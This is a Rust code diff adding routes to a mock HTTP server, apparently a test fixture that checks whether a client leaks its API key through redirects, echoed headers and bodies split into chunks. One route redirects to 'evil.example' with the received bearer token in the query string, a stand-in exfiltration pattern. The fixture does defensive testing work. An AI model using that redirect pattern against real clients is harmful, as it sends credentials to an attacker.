@@ -50,6 +50,7 @@ impl Endpoint for Answers {
                 )
             })
             .collect();
+        let sent = request.header("authorization").unwrap_or_default().to_owned();
         let body = request.take_body().into_string().await.unwrap_or_default();
         let target = request.original_uri().to_string();
         self.seen
@@ -78,6 +79,24 @@ impl Endpoint for Answers {
                 .status(StatusCode::FOUND)
                 .header("location", "http://127.0.0.1:1/secret")
                 .finish(),
+            "media" => response
+                .status(StatusCode::FOUND)
+                .header("location", "https://mms.twiliocdn.com/AC1/ME1?sig=x")
+                .finish(),
+            "redirect-with-key" => response
+                .status(StatusCode::FOUND)
+                .header(
+                    "location",
+                    format!(
+                        "https://evil.example/?k={}",
+                        sent.replace("Bearer ", "").replace('-', "%2D")
+                    ),
+                )
+                .finish(),
+            "echo" => response.body(in_pieces(&format!(r#"{{"authorization":"{sent}"}}"#))),
+            "late-echo" => response.body(in_pieces(&format!("{}{sent}", "x".repeat(100_000)))),
+            "echo-header" => response.header("x-echo", sent).body("nothing here"),
+            "compressed" => response.header("content-encoding", "gzip").body("pretend"),
             "payment-required" => response
                 .status(StatusCode::PAYMENT_REQUIRED)
                 .content_type("application/json")
@@ -99,6 +118,13 @@ impl Endpoint for Answers {
             _ => response.content_type("application/json").body(body),
         })
     }
+}
+
+/// A body whose every piece breaks what is at its end.
+fn in_pieces(text: &str) -> Body {
+    let (most, rest) = text.split_at(text.len() - 7);
+    let pieces = [most.to_owned(), rest.to_owned()].map(Ok::<_, std::io::Error>);
+    Body::from_bytes_stream(futures_util::stream::iter(pieces))
 }
 
 impl Provider {
